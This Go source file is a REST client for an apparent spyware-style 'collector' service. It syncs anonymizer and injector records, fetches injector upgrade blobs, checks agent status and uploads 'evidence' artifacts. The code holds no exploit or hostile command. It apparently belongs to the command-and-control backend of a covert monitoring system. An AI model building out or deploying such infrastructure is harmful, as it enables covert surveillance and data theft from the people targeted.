// SPDX-FileCopyrightText: (c) 2024 The rcs-collector authors
// SPDX-License-Identifier: AGPL-3.0-only

// Package db implements the client for the upstream metadata store, a REST
// service expected to run on the local network.
package db

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"

	"gopkg.in/op/go-logging.v1"

	"github.com/azera85/rcs-collector/core/log"
	"github.com/azera85/rcs-collector/evidence"
	"github.com/azera85/rcs-collector/nc/registry"
)

const requestTimeout = 30 * time.Second

// Client talks to the upstream metadata store. It is safe for concurrent
// use.
type Client struct {
	base   string
	client *http.Client
	log    *logging.Logger
}

// New constructs a store client against the provided base URL.
func New(base string, logBackend *log.Backend) *Client {
	return &Client{
		base:   strings.TrimRight(base, "/"),
		client: &http.Client{Timeout: requestTimeout},
		log:    logBackend.GetLogger("db"),
	}
}

// element is the wire form of a network element record.
type element struct {
	ID       string   `json:"id"`
	Name     string   `json:"name"`
	Cookie   string   `json:"cookie"`
	Key      string   `json:"key"`
	Address  string   `json:"address"`
	Port     int      `json:"port"`
	Instance string   `json:"instance"`
	Next     []string `json:"next"`
}

func (e *element) toRegistry(kind registry.Kind) (*registry.Element, error) {
	key, err := base64.StdEncoding.DecodeString(e.Key)
	if err != nil {
		return nil, fmt.Errorf("db: element %v carries a malformed key: %v", e.ID, err)
	}
	return &registry.Element{
		ID:       e.ID,
		Name:     e.Name,
		Kind:     kind,
		Cookie:   e.Cookie,
		Key:      key,
		Address:  e.Address,
		Port:     e.Port,
		Instance: e.Instance,
		Next:     e.Next,
	}, nil
}

func (c *Client) getJSON(endpoint string, v interface{}) error {
	resp, err := c.client.Get(c.base + endpoint)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("db: %v returned %v", endpoint, resp.Status)
	}
	return json.NewDecoder(resp.Body).Decode(v)
}

func (c *Client) postJSON(endpoint string, v interface{}, out interface{}) error {
	body, err := json.Marshal(v)
	if err != nil {
		return err
	}
	resp, err := c.client.Post(c.base+endpoint, "application/json", bytes.NewReader(body))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("db: %v returned %v", endpoint, resp.Status)
	}
	if out == nil {
		return nil
	}
	return json.NewDecoder(resp.Body).Decode(out)
}

// Connected reports whether the upstream store answers its status endpoint.
func (c *Client) Connected() bool {
	resp, err := c.client.Get(c.base + "/status")
	if err != nil {
		return false
	}
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}

// Anonymizers returns the current anonymizer records.
func (c *Client) Anonymizers() ([]*registry.Element, error) {
	return c.elements("/anonymizers", registry.Anonymizer)
}

// Injectors returns the current injector records.
func (c *Client) Injectors() ([]*registry.Element, error) {
	return c.elements("/injectors", registry.Injector)
}

func (c *Client) elements(endpoint string, kind registry.Kind) ([]*registry.Element, error) {
	var records []*element
	if err := c.getJSON(endpoint, &records); err != nil {
		return nil, err
	}
	elements := make([]*registry.Element, 0, len(records))
	for _, rec := range records {
		e, err := rec.toRegistry(kind)
		if err != nil {
			return nil, err
		}
		elements = append(elements, e)
	}
	return elements, nil
}

// UpdateStatus records a monitor entry for a network element.
func (c *Client) UpdateStatus(name, address, status, msg string, stats map[string]interface{}, kind, version string) error {
	return c.postJSON("/status/update", map[string]interface{}{
		"name":    name,
		"address": address,
		"status":  status,
		"msg":     msg,
		"stats":   stats,
		"kind":    kind,
		"version": version,
	}, nil)
}

// UpdateCollectorVersion records an anonymizer's reported version.
func (c *Client) UpdateCollectorVersion(id, version string) error {
	return c.postJSON("/collector/version", map[string]string{"id": id, "version": version}, nil)
}

// UpdateInjectorVersion records an injector's reported version.
func (c *Client) UpdateInjectorVersion(id, version string) error {
	return c.postJSON("/injector/version", map[string]string{"id": id, "version": version}, nil)
}

// CollectorAddLog appends a log line for an anonymizer.
func (c *Client) CollectorAddLog(id string, when int64, kind, desc string) error {
	return c.addLog("/collector/log", id, when, kind, desc)
}

// InjectorAddLog appends a log line for an injector.
func (c *Client) InjectorAddLog(id string, when int64, kind, desc string) error {
	return c.addLog("/injector/log", id, when, kind, desc)
}

func (c *Client) addLog(endpoint, id string, when int64, kind, desc string) error {
	return c.postJSON(endpoint, map[string]interface{}{
		"id":   id,
		"time": when,
		"type": kind,
		"desc": desc,
	}, nil)
}

// InjectorConfig returns the pending config blob for an injector, or an
// empty slice when there is none.
func (c *Client) InjectorConfig(id string) ([]byte, error) {
	return c.blob("/injector/config", id)
}

// InjectorUpgrade returns the pending upgrade blob for an injector, or an
// empty slice when there is none.
func (c *Client) InjectorUpgrade(id string) ([]byte, error) {
	return c.blob("/injector/upgrade", id)
}

func (c *Client) blob(endpoint, id string) ([]byte, error) {
	var out struct {
		Body string `json:"body"`
	}
	err := c.getJSON(endpoint+"?id="+url.QueryEscape(id), &out)
	if err != nil {
		return nil, err
	}
	if out.Body == "" {
		return nil, nil
	}
	return base64.StdEncoding.DecodeString(out.Body)
}

// AgentStatus resolves an agent's status and backend id.
func (c *Client) AgentStatus(ident, instance, subtype string) (string, int64, error) {
	var out struct {
		Status string `json:"status"`
		Bid    int64  `json:"bid"`
	}
	err := c.postJSON("/agent/status", map[string]string{
		"ident":    ident,
		"instance": instance,
		"subtype":  subtype,
	}, &out)
	if err != nil {
		return "", 0, err
	}
	return out.Status, out.Bid, nil
}

// SyncStart opens an upload session.
func (c *Client) SyncStart(s *evidence.Session) error {
	return c.postJSON("/sync/start", s, nil)
}

// SyncEnd closes an upload session.
func (c *Client) SyncEnd(s *evidence.Session) error {
	return c.postJSON("/sync/end", s, nil)
}

// SendEvidence uploads one evidence artifact.
func (c *Client) SendEvidence(instance string, blob []byte) error {
	resp, err := c.client.Post(
		c.base+"/evidence/"+url.PathEscape(instance),
		"application/octet-stream",
		bytes.NewReader(blob),
	)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("db: evidence upload returned %v", resp.Status)
	}
	return nil
}
